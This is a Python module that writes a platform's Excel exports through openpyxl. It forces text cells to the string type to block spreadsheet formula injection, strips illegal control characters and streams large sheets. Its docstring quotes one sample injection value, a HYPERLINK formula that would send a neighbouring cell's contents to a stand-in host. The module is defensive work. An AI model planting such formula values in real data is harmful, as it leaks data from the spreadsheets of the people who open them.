"""Excel workbooks the platform writes: text is always written as text, never as a formula.

openpyxl turns any string that starts with "=" into a formula (and "#N/A" and the like into error
cells), so an enterprise named '=HYPERLINK("http://x/?"&B2,"点击")' would become a live link in an
officer's export. Every workbook is written through this module, which gives each text cell the
string type explicitly; numbers, dates and booleans keep their own types. Control characters that
the file format cannot hold (openpyxl refuses them) are dropped from text, so one odd name never stops
an export of a million rows.

`write_table` streams a sheet of any length to a file: openpyxl's write-only mode writes each row to a
temporary file as it is appended, so memory stays flat whatever the number of rows.
"""

from collections.abc import Callable, Iterable
from io import BytesIO

from django.utils.functional import Promise
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE


def new_workbook(*, streaming: bool = True) -> Workbook:
    """A streaming (write-only) workbook for exports; a normal one where cells are styled afterwards."""
    return Workbook(write_only=streaming)


def cell(sheet, value):
    """A value for `sheet.append`: text always becomes a string cell; other values stay as they are.

    openpyxl reads text as something else only when it starts with "=" (a formula) or is an error code
    ("#N/A"); such text gets a cell typed as a string explicitly. Other text goes as it is, which
    openpyxl writes as a string anyway, without a cell object of its own (the export's hot path).
    """
    if isinstance(value, Promise):  # a lazily translated text
        value = str(value)
    if not isinstance(value, str):
        return value
    value = ILLEGAL_CHARACTERS_RE.sub("", value)
    if not value.startswith("=") and value not in ERROR_CODES:
        return value
    result = WriteOnlyCell(sheet, value)
    result.data_type = "s"
    return result


def labels(choices) -> dict:
    """{value: label as text} of a `TextChoices`/`IntegerChoices`, translated once for a whole export
    (`get_FOO_display` translates again on every row)."""
    return {value: str(label) for value, label in choices.choices}


def append(sheet, values) -> None:
    sheet.append([cell(sheet, value) for value in values])


def to_bytes(book: Workbook) -> bytes:
    out = BytesIO()
    book.save(out)
    return out.getvalue()


def write_table(
    target,
    title: str,
    headers,
    rows: Iterable,
    *,
    progress: Callable[[int], None] | None = None,
    every: int = 5000,
) -> int:
    """Write one sheet named `title` to `target` (a path or a binary file): a row of `headers`, then
    `rows`, each written as it comes; `progress(n)` is told every `every` rows. Returns the row count."""
    book = new_workbook()
    sheet = book.create_sheet(str(title)[:31])
    append(sheet, headers)
    count = 0
    for values in rows:
        append(sheet, values)
        count += 1
        if progress is not None and count % every == 0:
            progress(count)
    book.save(target)
    return count


def table_workbook(title: str, headers, rows) -> bytes:
    """One sheet named `title` as bytes, for small files: a row of `headers`, then `rows`."""
    out = BytesIO()
    write_table(out, title, headers, rows)
    return out.getvalue()
